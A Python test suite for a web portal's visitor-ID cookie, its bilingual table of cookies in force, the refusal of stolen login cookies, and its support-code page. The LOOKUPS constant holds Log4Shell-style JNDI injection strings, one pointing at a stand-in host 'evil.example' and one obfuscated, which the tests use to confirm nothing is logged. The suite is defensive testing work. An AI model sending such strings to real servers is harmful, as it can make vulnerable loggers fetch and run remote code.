"""The visitor's id over the wire, and the first page's table of the cookies in force."""

import re
import unittest
from html.parser import HTMLParser

from browser import Browser
from server import Portal
from wire import ask, get

LOGIN = "root.autoUserLoginId"
ID = re.compile(r"[A-Za-z0-9_-]{22}")
DAY = 86_400
# What made a well-known logging library fetch code, when a server logged the visitor's cookie as it came.
LOOKUPS = [b"${jndi:ldap://x}", b"${jndi:ldap://evil.example/a}", b"${${lower:j}ndi:dns://x}", b"10000${jndi:rmi://x}"]


class Table(HTMLParser):
    """The rows of the table of the cookies in force, and all attributes and tags that a page of this policy cannot have."""

    def __init__(self, page):
        super().__init__()
        self.rows, self.inside, self.foreign, self.text = [], False, [], ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.foreign += [tag] if tag in ("script", "style", "img", "iframe") else []
        self.foreign += [name for name, _ in attributes if name == "style" or name.startswith("on")]
        self.inside |= tag == "tbody"
        if self.inside and tag == "tr":
            self.rows.append([])
        if tag in ("td", "th"):
            self.text = ""

    def handle_endtag(self, tag):
        if self.inside and tag in ("td", "th"):
            self.rows[-1].append(self.text.replace("\xa0", " ").strip())
        self.inside &= tag != "tbody"

    def handle_data(self, data):
        self.text += data


class Visitor(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.portal = Portal()
        cls.addClassCleanup(cls.portal.stop)

    def test_to_ask_issues_an_id_once_and_it_stays(self):
        browser = Browser(self.portal.address)
        self.assertIsNone(browser.get("/whoami").json["visitor"])
        first = browser.get("/visit")
        self.assertEqual((first.status, first.one("cache-control")), (200, "no-store"))
        visitor = first.json["visitor"]
        self.assertRegex(visitor, ID)
        (line,) = first.set_cookies
        self.assertTrue(line.startswith(f"OFBiz.Visitor={visitor}."), line)
        for part in ["Max-Age=31536000", "Path=/", "HttpOnly", "Secure", "SameSite=Lax"]:
            self.assertIn(part, line)
        for path in ["/visit", "/whoami"]:
            again = browser.get(path)
            self.assertEqual((again.json["visitor"], again.set_cookies), (visitor, []), path)
            self.assertEqual(again.one("cache-control"), "no-store", path)

    def test_a_decimal_id_of_old_is_replaced_when_somebody_asks_and_not_before(self):
        for path in ["/", "/whoami", "/cart"]:
            self.assertEqual(get(self.portal.address, path, b"OFBiz.Visitor=63601").set_cookies, [], path)
        answer = get(self.portal.address, "/visit", b"OFBiz.Visitor=63601")
        self.assertRegex(answer.json["visitor"], ID)
        self.assertEqual(len(answer.set_cookies), 1)
        echo = get(self.portal.address, "/lab/echo", b"OFBiz.Visitor=63601").json
        self.assertEqual(echo, {"cookies": [], "refusals": [{"name": "OFBiz.Visitor", "reason": "unsigned"}]})


class Output(unittest.TestCase):
    def test_nothing_of_the_cookie_is_printed(self):
        for action in ["strip", "report", "reject"]:
            portal = Portal("--action", action)
            self.addCleanup(portal.stop)
            issued = []
            for lookup in LOOKUPS:
                for path in ["/", "/visit", "/whoami", "/lab/echo", "/lab/report", "/nowhere"]:
                    answer = get(portal.address, path, b"OFBiz.Visitor=" + lookup)
                    self.assertNotIn(b"jndi", answer.body, path)
                    issued += [answer.json["visitor"]] if path == "/visit" and answer.status == 200 else []
            self.assertTrue(issued)
            process = portal.server.process
            process.terminate()
            printed = process.stdout.read() + portal.logged()
            for text in [b"jndi", b"${", *[visitor.encode() for visitor in issued]]:
                self.assertNotIn(text, printed)


class InForce(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.portal = Portal()
        cls.addClassCleanup(cls.portal.stop)

    def wait(self, seconds):
        self.assertEqual(ask(self.portal.address, "POST", "/lab/clock", body=b"%d" % seconds).status, 200)

    def page(self, browser):
        answer = browser.get("/")
        self.assertIn("default-src 'none'; style-src 'self'", answer.one("content-security-policy"))
        table = Table(answer.body.decode())
        self.assertEqual(table.foreign, [])
        return {row[0]: row[1:] for row in table.rows}

    def test_who_has_no_cookie_has_none_in_force(self):
        browser = Browser(self.portal.address)
        self.assertEqual(self.page(browser), {})
        self.assertIn("Just looking at this portal sets no cookie.", browser.get("/").body.decode())

    def test_each_cookie_has_its_row_its_remaining_time_and_its_protection(self):
        browser = Browser(self.portal.address, XRMINT="n1", strange="1").sign_in("anna")
        browser.post("/cart", {"item": "headset"})
        browser.post("/draft", {"text": "hello"})
        browser.post("/theme", {"theme": "dark"})
        browser.post("/language", {"lng": "en"})
        browser.get("/visit")
        # The session is in use meanwhile.
        for _ in range(3):
            self.wait(1220)
            english = self.page(browser)
        closed, hours = "Until the browser is closed", "browser session, at most 10 h 59 min"
        guarded, signed = "Guarded: a change is noticed", "Signed: carries its own signature"
        opened = "Open: only its form is checked"
        self.assertEqual(
            {name: [kind, *rest] for name, (kind, _, *rest) in english.items()},
            {
                "JSESSIONID": ["Session ID", closed, hours, guarded],
                "X-Appia-UUID": ["Session ID", closed, hours, guarded],
                "X-Appia-ExtAuth": ["Login user ID", closed, hours, "Sealed: encrypted"],
                "bsloc": ["Node ID", closed, hours, guarded],
                "OFBiz.Visitor": ["Visitor ID", "1 year", "1 year", signed],
                "i18next": ["Language", "1 month", "only the browser knows", opened],
                "XRMINT": ["Stickiness", closed, "browser session", opened],
                "TS017a625a": ["ASM", closed, hours, "Signed: names the transaction"],
                "cart": ["Cart", closed, hours, guarded],
                "theme": ["Appearance", "1 year", "1 year", signed],
                "draft": ["Draft", closed, hours, "Sealed: encrypted"],
            },
        )
        self.assertIn("Row: XRM*", english["XRMINT"][1])
        self.assertIn("<code>strange</code>", browser.get("/").body.decode())
        browser.post("/language", {"lng": "de"})
        german = self.page(browser)
        self.assertEqual(german.keys(), english.keys())
        self.assertEqual(
            german["cart"],
            [
                "Warenkorb",
                "Merkt sich, was der Besucher in den Warenkorb gelegt hat.",
                "Bis der Browser geschlossen wird",
                "Browsersitzung, höchstens 10 Std. 59 Min.",
                "Bewacht: Änderungen fallen auf",
            ],
        )
        self.assertEqual(german["theme"][2:4], ["1 Jahr", "1 Jahr"])
        # Half a year later only what lasts for a year is left, and what only the browser can end.
        self.wait(183 * DAY)
        later = self.page(browser)
        self.assertEqual(sorted(later), ["OFBiz.Visitor", "XRMINT", "i18next", "theme"])
        self.assertEqual(later["theme"][3], "5 Monate 30 Tage")

    def test_what_is_left_reads_as_its_whole_time_at_first_and_then_in_two_units(self):
        browser = Browser(self.portal.address)
        browser.post("/cart", {"item": "headset"})
        browser.post("/theme", {"theme": "dark"})
        session, english, german = "browser session, at most ", [], []
        # Seconds pass meanwhile, which is less than what is rounded away.
        for seconds in [0, 90 * 60, 555 * 60, 90 * DAY, 260 * DAY, 14 * DAY]:
            self.wait(seconds)
            rows = self.page(browser)
            english.append((rows.get("cart", [""] * 5)[3], rows["theme"][3]))
            browser.post("/language", {"lng": "de"})
            german.append(self.page(browser)["theme"][3])
            browser.post("/language", {"lng": "en"})
        self.assertEqual(
            english,
            [
                (session + "12 h", "1 year"),
                (session + "10 h 30 min", "1 year"),
                (session + "1 h 15 min", "1 year"),
                ("", "9 months 1 day"),
                ("", "14 days 13 h"),
                ("", "13 h 15 min"),
            ],
        )
        self.assertEqual(german[3:], ["9 Monate 1 Tag", "14 Tage 13 Std.", "13 Std. 15 Min."])

    def test_what_a_store_knows_to_be_over_is_not_in_force(self):
        browser = Browser(self.portal.address)
        browser.post("/login", {"user": "rita", "password": "demo", "remember": "on"})
        session = {"JSESSIONID", "X-Appia-UUID", "X-Appia-ExtAuth"}
        self.assertLessEqual({*session, LOGIN}, set(self.page(browser)))
        # The login is copied, and used by both.
        copied = Browser(self.portal.address, **{LOGIN: browser.cookies[LOGIN]})
        thief = copied.captured()
        thief.post("/resume")
        thief = Browser(self.portal.address, **{LOGIN: thief.cookies[LOGIN]})
        thief.get("/whoami")
        self.wait(61)
        self.assertIsNone(copied.get("/whoami").json["remembered"])
        self.assertLessEqual({*session, LOGIN}, set(browser.cookies))
        self.assertEqual(set(self.page(browser)) & {*session, LOGIN}, set())
        # So it is after a sign-out, for whoever has copied the cookies.
        browser.post("/login", {"user": "rita", "password": "demo", "remember": "on"})
        other = browser.captured()
        browser.post("/logout")
        self.assertEqual(set(self.page(other)) & {*session, LOGIN}, set())


class Support(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.portal = Portal()
        cls.addClassCleanup(cls.portal.stop)

    def test_the_first_page_shows_the_code_to_who_has_asked_for_it(self):
        browser = Browser(self.portal.address)
        self.assertIn("Get a support code", browser.get("/").body.decode())
        self.assertEqual(browser.cookies, {})
        answer = browser.post("/visit")
        self.assertEqual((answer.status, answer.one("location")), (303, "/"))
        page, visitor = browser.get("/"), browser.get("/visit").json["visitor"]
        self.assertIn(visitor, page.body.decode())
        self.assertNotIn("Get a support code", page.body.decode())
        self.assertEqual(page.one("cache-control"), "no-store")

    def test_a_page_that_is_in_another_language_than_the_chosen_one_says_so(self):
        for language, says in [("en", None), ("de", None), ("fr", "Français"), ("es", "Español")]:
            browser = Browser(self.portal.address)
            browser.post("/language", {"lng": language})
            page = browser.get("/").body.decode()
            self.assertEqual(language == "de", '<html lang="de"' in page)
            self.assertEqual("This page is not available in" in page, says is not None)
            if says:
                self.assertIn(f'not available in <span lang="{language}">{says}</span>. It is shown in English.', page)
        answer = Browser(self.portal.address).post("/language", {"lng": "xx"})
        self.assertEqual((answer.status, answer.body), (400, b"This language is not available."))

    def test_every_text_of_the_table_is_in_both_languages(self):
        english, german = (
            get(self.portal.address, f"/cookies.json?lng={language}").json["cookies"] for language in ["en", "de"]
        )
        self.assertEqual([row["name"] for row in english], [row["name"] for row in german])
        for one, other in zip(english, german):
            for text in ["function", "justification", "duration"]:
                self.assertEqual(one[text] is None, other[text] is None)
                self.assertTrue(one[text] is None or one[text] != other[text], (one["name"], text))


if __name__ == "__main__":
    unittest.main()
